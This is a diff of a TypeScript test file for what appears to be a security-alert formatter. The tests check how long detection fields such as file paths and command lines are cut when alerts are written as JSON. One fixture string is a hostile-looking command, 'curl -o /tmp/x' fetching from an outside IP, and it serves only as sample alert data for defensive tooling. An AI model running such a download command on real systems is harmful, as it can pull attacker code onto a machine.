@@ -202,7 +202,35 @@ test('a long JSON line is cut to its bound, says so, and keeps what identifies i
   assert.equal((parsed.output_fields['argv'] as string[]).at(-1), '…');
 });
 
-test('JSON: a long value is whole in output_fields alone, as far as the line would be long', () => {
+test('JSON: a long command is whole in output_fields alone, as far as the line would be long', () => {
+  const file = `/srv/${'d'.repeat(150)}`;
+  const command = `gunicorn: worker ${'x'.repeat(100)} 1`;
+  const parent = `gunicorn: worker ${'x'.repeat(100)} 2 ${'y'.repeat(100)}`;
+  const output = `Read | file=${file} command=${command} parent_command=${parent} user=root`;
+  const fields = { 'fd.name': file, 'proc.cmdline': command, 'proc.pcmdline': parent };
+  const of = (outputFields: Record<string, string>, said = output): string => {
+    const line = formatLine(deliveryOf({ output: said, outputFields }), { format: 'json' });
+    const parsed = JSON.parse(line) as { output: string; output_fields: unknown };
+    assert.deepEqual(parsed.output_fields, outputFields);
+    assert.doesNotMatch(line, /truncated/);
+    // `varvel pretty` and `varvel report` show it whole.
+    assert.ok(readDetection(line)?.output.endsWith(` Warning ${said}`));
+    return parsed.output;
+  };
+  // Of two that begin alike, what stays says which of them it is.
+  const cut = of(fields);
+  assert.ok(cut.includes(`file=${file} command=${command} parent_command=`), cut);
+  assert.match(cut, / parent_command=gunicorn: worker x{100} 2 … user=root$/);
+  // Where another value has it within, it stays.
+  const child = `curl -o /tmp/x http://198.51.100.7/${'z'.repeat(100)}`;
+  const args = `res=0 ${child} ${'true '.repeat(20)}`.trim();
+  const nested = `Read | file=${file} arguments=${args} command=${child} user=root`;
+  const both = of({ 'fd.name': file, 'evt.args': args, 'proc.cmdline': child }, nested);
+  assert.ok(both.includes(` arguments=${args} command=`), both);
+  assert.match(both, / command=curl -o \/tmp\/x http:\/\/198\.51\.100\.7\/z{29}… user=root$/);
+});
+
+test('JSON: other long values are cut in output where the line would be longer yet', () => {
   const capabilities = 'CAP_SYS_ADMIN '.repeat(40).trim();
   const command = `sh -c ${'x'.repeat(110)}`;
   const output = `Mounted | capabilities=${capabilities} command=${command} user=root`;
@@ -213,9 +241,8 @@ test('JSON: a long value is whole in output_fields alone, as far as the line wou
   assert.deepEqual(parsed.output_fields, outputFields);
   assert.match(
     parsed.output,
-    /\| capabilities=CAP_SYS_ADMIN [CAP_SYSDMIN ]{200,}… command=sh -c x/,
+    /\| capabilities=CAP_SYS_ADMIN [CAP_SYSDMIN ]{200,}… command=sh -c x{58}… user=root$/,
   );
-  assert.ok(parsed.output.endsWith(` command=${command} user=root`));
   assert.doesNotMatch(line, /truncated/);
   assert.ok(readDetection(line)?.output.endsWith(` Warning ${output}`));
 });
